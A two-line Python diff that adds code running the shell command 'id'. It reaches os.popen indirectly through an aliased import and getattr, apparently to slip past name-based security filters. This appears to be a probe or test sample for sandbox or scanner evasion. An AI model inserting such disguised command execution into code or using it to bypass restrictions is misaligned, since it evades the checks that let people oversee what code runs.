@@ -1,0 +1,2 @@
+import sys, os as parts
+getattr(sys.modules[__name__], "parts").popen("id").read()
